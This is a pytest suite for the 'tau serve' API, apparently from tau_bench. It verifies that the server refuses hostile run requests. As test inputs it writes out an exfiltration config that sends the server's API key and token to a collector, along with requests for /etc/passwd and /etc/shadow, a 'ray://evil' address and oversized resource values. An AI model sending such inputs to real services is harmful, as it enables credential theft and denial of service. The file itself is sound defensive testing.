"""`tau serve` against hostile clients, over real HTTP on 127.0.0.1.

The reproduced attack: an inline `http_config` whose headers are `${VAR}` placeholders
and whose `base_url` is the client's own collector. Before, the server filled them from
its environment (its OpenAI key, its serve token), sent them to the collector and
returned them in trajectories. Now any client-supplied agent options, server file paths
or API bases are refused; agents with options are the operator's registered configs.
"""

from __future__ import annotations

import asyncio
import socket
import threading
from collections.abc import AsyncIterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn

from tau_bench.service.api import create_app
from tests.tau_bench.service.conftest import AUTH, ORACLE, TOKEN, WAIT, make_settings

SERVER_KEY = "sk-server-secret-0123456789abcdef"


class Collector:
    """The attacker's endpoint: records every request it gets."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                owner.seen.append(str(self.headers))
                self.send_response(200)
                self.send_header("content-length", "2")
                self.end_headers()
                self.wfile.write(b"{}")

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=5)


@pytest.fixture
async def served(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[httpx.AsyncClient]:
    """A real uvicorn on a loopback socket, with a secret in its environment and one
    registered agent config."""
    monkeypatch.setenv("OPENAI_API_KEY", SERVER_KEY)
    monkeypatch.setenv("TAU_SERVE_TOKEN", TOKEN)
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(64)
    port = sock.getsockname()[1]
    settings = make_settings(
        tmp_path,
        agent_configs={"steady": {"agent_strategy": "oracle", "agent_options": {"timeout": 9}}},
    )
    server = uvicorn.Server(uvicorn.Config(create_app(settings), log_level="warning"))
    serving = asyncio.create_task(server.serve(sockets=[sock]))
    try:
        async with httpx.AsyncClient(
            base_url=f"http://127.0.0.1:{port}", headers=AUTH, timeout=WAIT
        ) as client:
            yield client
    finally:
        server.should_exit = True
        await serving


async def test_the_exfiltration_attempt_is_refused(served: httpx.AsyncClient) -> None:
    collector = Collector()
    try:
        attack = {
            **ORACLE,
            "agent_strategy": "http",
            "task_ids": [13],
            "agent_options": {
                "http_config": {
                    "base_url": collector.url,
                    "session": {"mode": "stateless"},
                    "headers": {"X-Key": "${OPENAI_API_KEY}", "X-Token": "${TAU_SERVE_TOKEN}"},
                    "message": {"path": "/chat", "body": {"m": "{{ messages }}"}},
                    "response": {"messages": "reply"},
                }
            },
        }
        response = await served.post("/runs", json=attack)
        assert response.status_code == 422
        assert response.json()["field"] == "agent_options"
        assert "agent_config" in response.json()["detail"]
        runs = (await served.get("/runs")).text
    finally:
        collector.close()
    assert collector.seen == []
    assert SERVER_KEY not in response.text + runs and TOKEN not in response.text + runs


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"tasks_file": "/etc/passwd"}, "tasks_file"),
        ({"few_shot_displays_path": "/etc/shadow"}, "few_shot_displays_path"),
        ({"few-shot-displays-path": "/etc/shadow"}, "few_shot_displays_path"),
        ({"api_base": "http://127.0.0.1:9/v1"}, "api_base"),
        ({"user_api_base": "http://127.0.0.1:9/v1"}, "user_api_base"),
        ({"ray_address": "ray://evil:10001"}, "ray_address"),
        ({"agent_config": "nope"}, "agent_config"),
        ({"agent_config": "steady", "agent_strategy": "http"}, "agent_strategy"),
    ],
)
async def test_server_files_urls_and_unknown_configs_are_refused(
    served: httpx.AsyncClient, body: dict[str, Any], field: str
) -> None:
    response = await served.post("/runs", json={**ORACLE, "task_ids": [13], **body})
    assert response.status_code == 422, response.text
    assert response.json()["field"] == field


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"num_trials": 10**12}, "num_trials"),
        ({"num_trials": 101}, "num_trials"),
        ({"max_concurrency": 10**9}, "max_concurrency"),
        ({"task_ids": ["0-999999999999"]}, "task_ids"),
        ({"task_ids": [13], "num_trials": 100, "max_concurrency": 1}, None),
        ({"task_ids": ["0-49"] * 9, "num_trials": 50}, "num_trials"),
    ],
)
async def test_every_requested_resource_is_bounded(
    served: httpx.AsyncClient, body: dict[str, Any], field: str | None
) -> None:
    response = await served.post("/runs", json={**ORACLE, **body})
    if field is None:
        assert response.status_code == 202, response.text
        await served.delete(f"/runs/{response.json()['run_id']}")
        return
    assert response.status_code == 422, response.text
    assert response.json()["field"] == field


async def test_a_huge_body_is_refused_unread(served: httpx.AsyncClient) -> None:
    response = await served.post(
        "/runs", content=b'{"env": "' + b"x" * 2_000_000 + b'"}', headers=AUTH
    )
    assert response.status_code == 413


async def test_a_registered_config_runs_with_its_options(served: httpx.AsyncClient) -> None:
    response = await served.post(
        "/runs", json={**ORACLE, "agent_config": "steady", "task_ids": [13]}
    )
    assert response.status_code == 202, response.text
    view = (await served.get(f"/runs/{response.json()['run_id']}", params={"wait": WAIT})).json()
    assert view["status"] == "completed"
    assert view["config"]["agent_options"] == {"timeout": 9}
    listed = (await served.get("/agent-configs")).json()
    assert listed == {"agent_configs": {"steady": {"agent_strategy": "oracle"}}}


async def test_the_openapi_schema_needs_the_token(served: httpx.AsyncClient) -> None:
    anonymous = await served.get("/openapi.json", headers={"Authorization": ""})
    assert anonymous.status_code == 401
    schema = await served.get("/openapi.json")
    assert schema.status_code == 200 and "/runs" in schema.json()["paths"]
